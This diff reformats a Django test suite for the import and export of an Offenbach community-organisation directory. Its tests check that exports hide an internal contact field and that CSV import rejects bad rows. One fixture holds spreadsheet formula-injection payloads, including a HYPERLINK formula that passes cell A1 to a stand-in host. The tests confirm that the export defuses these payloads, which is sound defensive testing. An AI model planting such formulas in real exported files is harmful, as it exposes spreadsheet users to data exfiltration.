@@ -8,7 +8,6 @@ from reversion.models import Version
 
 from offenbach_portal.core.publication import Status
 from orgs.models import Offer, Organisation
-
 from tests.factories import StaffUserFactory, make_organisation
 
 pytestmark = pytest.mark.django_db
@@ -16,24 +15,57 @@ pytestmark = pytest.mark.django_db
 C = Offer.Category
 SECRET = "Privatnummer 0170 1234567"
 EXPECTED_COLUMNS = [
-    "slug", "name", "short_name", "kind", "status", "languages", "district",
-    "origin_de", "origin_en", "origin_uk", "origin_ru",
-    "description_de", "description_en", "description_uk", "description_ru",
-    "founded_year", "email", "phone", "website", "street", "postcode", "city", "offers", "url",
+    "slug",
+    "name",
+    "short_name",
+    "kind",
+    "status",
+    "languages",
+    "district",
+    "origin_de",
+    "origin_en",
+    "origin_uk",
+    "origin_ru",
+    "description_de",
+    "description_en",
+    "description_uk",
+    "description_ru",
+    "founded_year",
+    "email",
+    "phone",
+    "website",
+    "street",
+    "postcode",
+    "city",
+    "offers",
+    "url",
 ]
 
 
 @pytest.fixture
 def organisations():
     greek = make_organisation(
-        "Griechische Gemeinde", slug="griechische-gemeinde", languages=["el", "de"], district="Nordend",
-        offers=[(C.CULTURE, "Tanzkurs"), (C.MEETING, "Abendessen")], founded_year=1972, origin_de="griechisch",
-        origin_en="Greek", description_uk="Грецька громада, «лапки», кома, і\nновий рядок", email="info@example.org",
-        phone="069 1234", website="https://example.org/", street="Speyerstraße 5", postcode="63065",
+        "Griechische Gemeinde",
+        slug="griechische-gemeinde",
+        languages=["el", "de"],
+        district="Nordend",
+        offers=[(C.CULTURE, "Tanzkurs"), (C.MEETING, "Abendessen")],
+        founded_year=1972,
+        origin_de="griechisch",
+        origin_en="Greek",
+        description_uk="Грецька громада, «лапки», кома, і\nновий рядок",
+        email="info@example.org",
+        phone="069 1234",
+        website="https://example.org/",
+        street="Speyerstraße 5",
+        postcode="63065",
         internal_contact=SECRET,
     )
     mosque = make_organisation(
-        "Moscheegemeinde", slug="moscheegemeinde", kind=Organisation.Kind.RELIGIOUS, languages=["tr", "ar"],
+        "Moscheegemeinde",
+        slug="moscheegemeinde",
+        kind=Organisation.Kind.RELIGIOUS,
+        languages=["tr", "ar"],
         internal_contact=SECRET,
     )
     make_organisation("Sozialamt", slug="sozialamt", kind=Organisation.Kind.CITY_OFFICE, internal_contact=SECRET)
@@ -69,18 +101,40 @@ def test_json_export_holds_public_fields_of_published_directory_organisations(cl
     data = json.loads(response.content)
     assert data["count"] == 2
     greek = data["organisations"][0]
-    assert sorted(greek) == sorted([
-        "slug", "name", "short_name", "kind", "kind_label", "origin", "languages", "district", "description",
-        "founded_year", "contact", "offers", "logo", "url", "updated_at",
-    ])
+    assert sorted(greek) == sorted(
+        [
+            "slug",
+            "name",
+            "short_name",
+            "kind",
+            "kind_label",
+            "origin",
+            "languages",
+            "district",
+            "description",
+            "founded_year",
+            "contact",
+            "offers",
+            "logo",
+            "url",
+            "updated_at",
+        ]
+    )
     assert greek["languages"] == [{"code": "de", "name": "Deutsch"}, {"code": "el", "name": "Griechisch"}]
     assert greek["contact"] == {
-        "email": "info@example.org", "phone": "069 1234", "website": "https://example.org/",
-        "street": "Speyerstraße 5", "postcode": "63065", "city": "Offenbach am Main",
+        "email": "info@example.org",
+        "phone": "069 1234",
+        "website": "https://example.org/",
+        "street": "Speyerstraße 5",
+        "postcode": "63065",
+        "city": "Offenbach am Main",
     }
     assert greek["offers"][0] == {
-        "title": {"de": "Tanzkurs", "en": "", "uk": "", "ru": ""}, "category": "kultur", "category_label": "Kultur",
-        "schedule": {"de": "", "en": "", "uk": "", "ru": ""}, "languages": ["de", "el"],
+        "title": {"de": "Tanzkurs", "en": "", "uk": "", "ru": ""},
+        "category": "kultur",
+        "category_label": "Kultur",
+        "schedule": {"de": "", "en": "", "uk": "", "ru": ""},
+        "languages": ["de", "el"],
     }
     assert greek["origin"] == {"de": "griechisch", "en": "Greek", "uk": "", "ru": ""}
 
@@ -93,9 +147,10 @@ def test_exports_never_contain_the_internal_contact(client, organisations, path)
 
 
 def test_admin_export_never_contains_the_internal_contact(admin_client, organisations):
-    response = admin_client.post("/admin/orgs/organisation/export/", {"format": "0", "resource": "0", **{
-        f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS
-    }})
+    response = admin_client.post(
+        "/admin/orgs/organisation/export/",
+        {"format": "0", "resource": "0", **{f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS}},
+    )
     assert response.status_code == 200
     content = response.content.decode("utf-8")
     rows = list(csv.DictReader(io.StringIO(content)))
@@ -119,15 +174,28 @@ def _admin_import(client, content, filename="vereine.csv"):
 def _public_state():
     state = []
     for organisation in Organisation.objects.order_by("slug").prefetch_related("languages"):
-        state.append((
-            organisation.slug, organisation.name, organisation.short_name, organisation.kind, organisation.status,
-            organisation.district.name if organisation.district else None,
-            sorted(language.code for language in organisation.languages.all()),
-            organisation.origin_de or "", organisation.origin_en or "",
-            organisation.description_de or "", organisation.description_uk or "",
-            organisation.founded_year, organisation.email, organisation.phone, organisation.website,
-            organisation.street, organisation.postcode, organisation.city,
-        ))
+        state.append(
+            (
+                organisation.slug,
+                organisation.name,
+                organisation.short_name,
+                organisation.kind,
+                organisation.status,
+                organisation.district.name if organisation.district else None,
+                sorted(language.code for language in organisation.languages.all()),
+                organisation.origin_de or "",
+                organisation.origin_en or "",
+                organisation.description_de or "",
+                organisation.description_uk or "",
+                organisation.founded_year,
+                organisation.email,
+                organisation.phone,
+                organisation.website,
+                organisation.street,
+                organisation.postcode,
+                organisation.city,
+            )
+        )
     return state
 
 
@@ -158,7 +226,7 @@ def test_import_records_history(admin_client, organisations):
 def test_import_updates_by_slug_and_keeps_the_internal_contact(admin_client, organisations):
     content = (
         "slug,name,kind,languages,district,description_de\n"
-        "griechische-gemeinde,Griechische Gemeinde Offenbach,verein,\"el,de,en\",Bieber,Neue Beschreibung\n"
+        'griechische-gemeinde,Griechische Gemeinde Offenbach,verein,"el,de,en",Bieber,Neue Beschreibung\n'
     )
     preview, confirmed = _admin_import(admin_client, content)
     assert [row.import_type for row in preview.context["result"].rows] == ["update"]
@@ -174,7 +242,7 @@ BROKEN = (
     "slug,name,kind,languages,district,description_de,founded_year\n"
     "neuer-verein,Neuer Verein,verein,de,Nordend,Ein guter Verein,2001\n"
     "kaputt-1,Verein mit falscher Art,fussballclub,de,Nordend,Text,2001\n"
-    "kaputt-2,Verein mit falscher Sprache,verein,\"de,klingonisch\",Nordend,Text,2001\n"
+    'kaputt-2,Verein mit falscher Sprache,verein,"de,klingonisch",Nordend,Text,2001\n'
     "kaputt-3,Verein im Nirgendwo,verein,de,Atlantis,Text,2001\n"
     "kaputt-4,Verein ohne Beschreibung,verein,de,Nordend,,2001\n"
     "kaputt-5,Verein aus der Zukunft,verein,de,Nordend,Text,3001\n"
@@ -224,21 +292,28 @@ def test_import_of_a_file_that_is_not_csv_reports_an_error(admin_client, organis
 
 
 def test_import_needs_add_and_change_permission(client, organisations):
-    client.force_login(StaffUserFactory(username="nur-lesen", groups=[], permissions=["orgs.view_organisation", "orgs.change_organisation"]))
+    client.force_login(
+        StaffUserFactory(username="nur-lesen", groups=[], permissions=["orgs.view_organisation", "orgs.change_organisation"])
+    )
     assert client.get("/admin/orgs/organisation/import/").status_code == 403
 
 
 @pytest.fixture
 def formula_organisation():
     return make_organisation(
-        '=HYPERLINK("https://example.com/?d="&A1,"Klick")', slug="formel", short_name="@SUMME(1)",
-        description_de="-2+3", phone="+49 69 1234", street="\tTabstraße 1", origin_de="=1+1 griechisch",
+        '=HYPERLINK("https://example.com/?d="&A1,"Klick")',
+        slug="formel",
+        short_name="@SUMME(1)",
+        description_de="-2+3",
+        phone="+49 69 1234",
+        street="\tTabstraße 1",
+        origin_de="=1+1 griechisch",
     )
 
 
 def test_csv_export_neutralises_cells_that_spreadsheets_read_as_formulas(client, formula_organisation):
     row = read_csv(client.get("/vereine/export.csv"))[0]
-    assert row["name"] == "'=HYPERLINK(\"https://example.com/?d=\"&A1,\"Klick\")"
+    assert row["name"] == '\'=HYPERLINK("https://example.com/?d="&A1,"Klick")'
     assert row["short_name"] == "'@SUMME(1)"
     assert row["description_de"] == "'-2+3"
     assert row["phone"] == "'+49 69 1234"
@@ -255,11 +330,12 @@ def test_json_export_keeps_values_that_look_like_formulas(client, formula_organi
 
 
 def test_admin_csv_export_neutralises_formulas(admin_client, formula_organisation):
-    response = admin_client.post("/admin/orgs/organisation/export/", {"format": "0", "resource": "0", **{
-        f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS
-    }})
+    response = admin_client.post(
+        "/admin/orgs/organisation/export/",
+        {"format": "0", "resource": "0", **{f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS}},
+    )
     row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
-    assert row["name"] == "'=HYPERLINK(\"https://example.com/?d=\"&A1,\"Klick\")"
+    assert row["name"] == '\'=HYPERLINK("https://example.com/?d="&A1,"Klick")'
     assert row["phone"] == "'+49 69 1234"
 
 
@@ -282,8 +358,9 @@ def test_import_keeps_an_apostrophe_that_does_not_guard_a_formula(admin_client):
 
 def _many(count):
     for number in range(count):
-        make_organisation(f"Verein {number:02d}", languages=["de", "ar"], district="Nordend",
-                          offers=[(C.HOMEWORK, "Hilfe"), (C.SPORT, "Fußball")])
+        make_organisation(
+            f"Verein {number:02d}", languages=["de", "ar"], district="Nordend", offers=[(C.HOMEWORK, "Hilfe"), (C.SPORT, "Fußball")]
+        )
 
 
 @pytest.mark.parametrize("count", [1, 30])
